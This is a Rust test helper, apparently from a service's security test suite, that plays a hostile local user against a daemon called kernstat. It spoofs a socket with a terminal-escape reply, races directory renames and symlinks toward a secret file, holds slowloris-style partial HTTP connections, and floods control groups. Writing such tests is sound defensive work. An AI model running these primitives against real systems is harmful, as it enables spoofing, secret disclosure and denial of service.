//! ks-hostile: what a hostile local user does to kernstat, for the security tests (run as
//! that user with setpriv). Each mode is one of the reproductions in
//! shared/security/findings-2026-11-25.md.
//!
//!   ks-hostile ask SOCK [TIMEOUT_MS]       request lines from stdin, one reply line each
//!                                          to stdout ("TIMEOUT" and exit 3 if one is late)
//!   ks-hostile listen PATH LOG             a socket planted at PATH (its directory made
//!                                          0755, the socket 0666): every line received
//!                                          appended to LOG, answered with a spoof
//!   ks-hostile toggle A B SECS             renames directory A to B and back, as fast as
//!                                          it can, for SECS
//!   ks-hostile swap LINK PUBLIC SECRET SECS
//!                                          LINK points at SECRET, then PUBLIC, in turn
//!   ks-hostile hold ADDR N SECS            N connections that send part of an HTTP
//!                                          request and wait; reconnect when closed
//!   ks-hostile groups DIR N SECS           makes N control groups in DIR (a delegated
//!                                          one), prints "made N", holds them SECS,
//!                                          removes them and prints "removed"
use std::io::{BufRead, BufReader, Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{UnixListener, UnixStream};
use std::time::{Duration, Instant};

fn usage() -> ! {
    eprintln!("usage: ks-hostile ask|listen|toggle|swap|hold|groups ...");
    std::process::exit(2);
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let a = |i: usize| args.get(i).cloned().unwrap_or_else(|| usage());
    match args.first().map(String::as_str) {
        Some("ask") => ask(
            &a(1),
            args.get(2).and_then(|t| t.parse().ok()).unwrap_or(5000),
        ),
        Some("listen") => listen(&a(1), &a(2)),
        Some("toggle") => toggle(&a(1), &a(2), a(3).parse().unwrap_or_else(|_| usage())),
        Some("swap") => swap(
            &a(1),
            &a(2),
            &a(3),
            a(4).parse().unwrap_or_else(|_| usage()),
        ),
        Some("hold") => hold(
            &a(1),
            a(2).parse().unwrap_or_else(|_| usage()),
            a(3).parse().unwrap_or_else(|_| usage()),
        ),
        Some("groups") => groups(
            &a(1),
            a(2).parse().unwrap_or_else(|_| usage()),
            a(3).parse().unwrap_or_else(|_| usage()),
        ),
        _ => usage(),
    }
}

fn groups(dir: &str, n: usize, secs: u64) {
    let names: Vec<String> = (0..n).map(|i| format!("{dir}/g{i:05}")).collect();
    for p in &names {
        std::fs::create_dir(p).unwrap_or_else(|e| panic!("{p}: {e}"));
    }
    println!("made {n}");
    let _ = std::io::stdout().flush();
    std::thread::sleep(Duration::from_secs(secs));
    for p in &names {
        let _ = std::fs::remove_dir(p);
    }
    println!("removed");
}

fn ask(sock: &str, timeout_ms: u64) {
    let s = UnixStream::connect(sock).unwrap_or_else(|e| {
        println!("CONNECT {e}");
        std::process::exit(4)
    });
    s.set_read_timeout(Some(Duration::from_millis(timeout_ms)))
        .unwrap();
    let mut w = s.try_clone().unwrap();
    let mut r = BufReader::new(s);
    let stdout = std::io::stdout();
    let mut out = stdout.lock();
    for line in std::io::stdin().lock().lines() {
        let line = line.unwrap();
        if w.write_all(format!("{line}\n").as_bytes()).is_err() {
            // What the other end said before it closed (a refusal) is still readable.
            let mut reply = String::new();
            if r.read_line(&mut reply).is_ok_and(|n| n > 0) {
                let _ = out.write_all(reply.as_bytes());
            }
            println!("CLOSED");
            std::process::exit(5);
        }
        let mut reply = String::new();
        match r.read_line(&mut reply) {
            Ok(0) => {
                println!("CLOSED");
                std::process::exit(5);
            }
            Ok(_) => {
                let _ = out.write_all(reply.as_bytes());
            }
            Err(_) => {
                println!("TIMEOUT");
                std::process::exit(3);
            }
        }
    }
}

fn listen(path: &str, log: &str) {
    let p = std::path::Path::new(path);
    if let Some(dir) = p.parent() {
        let _ = std::fs::create_dir_all(dir);
        let _ = std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755));
    }
    let _ = std::fs::remove_file(p);
    let l = UnixListener::bind(p).expect("bind");
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o666)).unwrap();
    println!("ready");
    let _ = std::io::stdout().flush();
    for c in l.incoming().flatten() {
        let log = log.to_string();
        std::thread::spawn(move || {
            let mut w = c.try_clone().unwrap();
            for line in BufReader::new(c).lines().map_while(Result::ok) {
                let mut f = std::fs::OpenOptions::new()
                    .create(true)
                    .append(true)
                    .open(&log)
                    .unwrap();
                let _ = writeln!(f, "{line}");
                let _ = w.write_all(b"ATTACKER %F{red}spoof\n");
            }
        });
    }
}

fn toggle(a: &str, b: &str, secs: f64) {
    let end = Instant::now() + Duration::from_secs_f64(secs);
    let mut n = 0u64;
    while Instant::now() < end {
        if std::fs::rename(a, b).is_ok() {
            let _ = std::fs::rename(b, a);
            n += 1;
        }
    }
    println!("{n}");
}

fn swap(link: &str, public: &str, secret: &str, secs: f64) {
    let end = Instant::now() + Duration::from_secs_f64(secs);
    let tmp = format!("{link}.new");
    let mut n = 0u64;
    while Instant::now() < end {
        for target in [secret, public] {
            let _ = std::fs::remove_file(&tmp);
            if std::os::unix::fs::symlink(target, &tmp).is_ok() {
                let _ = std::fs::rename(&tmp, link);
            }
        }
        n += 1;
    }
    println!("{n}");
}

fn hold(addr: &str, n: usize, secs: f64) {
    let end = Instant::now() + Duration::from_secs_f64(secs);
    let threads: Vec<_> = (0..n)
        .map(|_| {
            let addr = addr.to_string();
            std::thread::spawn(move || {
                while Instant::now() < end {
                    let Ok(mut s) = std::net::TcpStream::connect(&addr) else {
                        std::thread::sleep(Duration::from_millis(10));
                        continue;
                    };
                    let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
                    let _ = s.write_all(b"GET /metrics HTTP/1.1\r\n");
                    let mut buf = [0u8; 100];
                    let _ = s.read(&mut buf);
                }
            })
        })
        .collect();
    for t in threads {
        let _ = t.join();
    }
}
